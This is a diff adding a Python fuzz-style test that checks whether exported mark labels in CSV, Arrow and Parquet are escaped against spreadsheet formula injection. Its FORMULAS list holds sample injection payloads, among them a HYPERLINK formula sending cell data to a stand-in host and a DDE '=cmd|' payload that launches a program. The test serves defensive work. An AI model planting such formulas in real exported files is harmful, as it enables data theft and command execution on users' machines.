@@ -1,0 +1,142 @@
+"""What people write into marks, opened in a spreadsheet."""
+
+from __future__ import annotations
+
+import csv
+import io
+from random import Random
+
+import numpy as np
+import pyarrow as pa
+import pyarrow.parquet as pq
+
+from devices.frames import FrameBatch
+from storage.clock.bounds import Rows
+from storage.clock.table import ClockTable, StreamFacts
+from storage.formats.export import Format, export
+from storage.formats.marks import BETWEEN, TIMES, Marks, place
+from storage.formats.slice import Slice
+from storage.schema import Array
+from storage.sessions.folder import Event
+from tests.builders.arrays import PERIOD_NS, make_array
+from tests.builders.frames import make_frames
+from tests.hostile.attack import Outcome, Play, attack
+
+ROWS = 24
+SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"  # the last four are the first, full width
+ODD = [
+    *SIGNS,
+    *"'\",;|\\\0\x1b\ufeff\u2028\u202e aé\U0001f9b6",
+    '""',
+    "'=",
+    "\r\n",
+    "NaN",
+    "-1",
+    "null",
+]
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://x.example/?"&A1)',
+    "=cmd|'/C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
+
+
+@attack("labels of marks that a spreadsheet takes for formulas", tries=150, soak_tries=20_000)
+def labels_in_a_spreadsheet(play: Play) -> Outcome:
+    """Drawn labels at frames with drawn forces, many negative, written as CSV, Arrow and Parquet.
+
+    A try is one table. It fails if a cell of text in CSV begins with a sign of a formula; if a
+    label does not come back from any format as it was (from CSV less one apostrophe in front); or
+    if a number in CSV is not the number that the Arrow file has, negative ones included.
+    """
+    outcome = Outcome()
+    while outcome.tries < play.tries:
+        labels = [_label(play.random) for _ in range(play.random.randrange(1, 9))]
+        frames, extra = _session(play.random)
+        marks = _placed(labels, frames, play.random)
+        written = {to: _written(to, frames, extra, marks) for to in _FORMATS}
+        wrong = _wrong(written, marks, frames)
+        if wrong is None:
+            outcome.saw("text is text, numbers are numbers")
+        else:
+            outcome.failed(f"{wrong}: labels {labels!r}")
+    return outcome
+
+
+_FORMATS: tuple[Format, ...] = ("csv", "arrow", "parquet")
+
+
+def _label(random: Random) -> str:
+    if random.random() < 0.3:
+        return random.choice(FORMULAS)
+    return "".join(random.choice(ODD) for _ in range(random.randrange(1, 6)))
+
+
+def _session(random: Random) -> tuple[FrameBatch, dict[str, Array]]:
+    rng = np.random.default_rng(random.randrange(2**32))
+    force_n = rng.normal(0.0, 10.0 ** rng.integers(-6, 6), (ROWS, 2))
+    force_n[rng.random((ROWS, 2)) < 0.1] = np.nan
+    frames = make_frames(ROWS, 2, sample_offset_us=rng.integers(-3000, 3000, (ROWS, 2)))
+    phase = np.array([_label(random) for _ in range(ROWS)])
+    return frames, {"force_n": force_n, "phase": phase}
+
+
+def _placed(labels: list[str], frames: FrameBatch, random: Random) -> Marks:
+    end_ns = ROWS * PERIOD_NS
+    events = [
+        Event(id=f"{i:012x}", label=label, t_ns=int(frames.t_ns[0]) + random.randrange(end_ns))
+        for i, label in enumerate(labels)
+    ]
+    no_offset = Rows(np.array([0]), np.array([0]), np.array([1]))
+    clock = ClockTable({"a": no_offset}, [StreamFacts("a", 0, True)], ["a"])
+    times = {name: getattr(frames, name) for name in TIMES}
+    return place(events, [times], clock, Slice())
+
+
+def _written(to: Format, frames: FrameBatch, extra: dict[str, Array], marks: Marks) -> bytes:
+    half = ROWS // 2
+    pieces = [
+        (frames.rows(a, a + half), {name: values[a : a + half] for name, values in extra.items()})
+        for a in (0, half)
+    ]
+    return b"".join(export(pieces, make_array(), {}, to, Slice(), None, marks))
+
+
+def _wrong(written: dict[Format, bytes], marks: Marks, frames: FrameBatch) -> str | None:
+    arrow = pa.ipc.open_stream(written["arrow"]).read_all()
+    if not pq.read_table(io.BytesIO(written["parquet"])).equals(arrow):
+        return "Parquet and Arrow differ"
+    at: dict[int, list[str]] = {}
+    for mark in marks.all:
+        if mark.frame is not None:
+            at.setdefault(mark.frame[1], []).append(mark.event.label)
+    expected = [BETWEEN.join(at[seq]) if seq in at else None for seq in frames.seq.tolist()]
+    if arrow["event"].to_pylist() != expected:
+        return f"Arrow has {arrow['event'].to_pylist()!r}"
+    head, *rows = csv.reader(io.StringIO(written["csv"].decode(), newline=""))
+    if len(rows) != ROWS or head != arrow.column_names:
+        return f"CSV has {len(rows)} rows"
+    for i, name in enumerate(head):
+        cells, values = [row[i] for row in rows], arrow[name].to_pylist()
+        wrong = _wrong_text if pa.types.is_string(arrow.schema.field(name).type) else _wrong_number
+        for cell, value in zip(cells, values, strict=True):
+            if wrong(cell, value):
+                return f"CSV has {cell!r} in {name} where Arrow has {value!r}"
+    return None
+
+
+def _wrong_text(cell: str, text: str | None) -> bool:
+    return cell.startswith(tuple(SIGNS)) or cell.removeprefix("'") != (text or "")
+
+
+def _wrong_number(cell: str, number: float | None) -> bool:
+    if number is None:
+        return cell != ""
+    if isinstance(number, int):
+        return int(cell) != number
+    return bool(np.float32(cell) != np.float32(number))
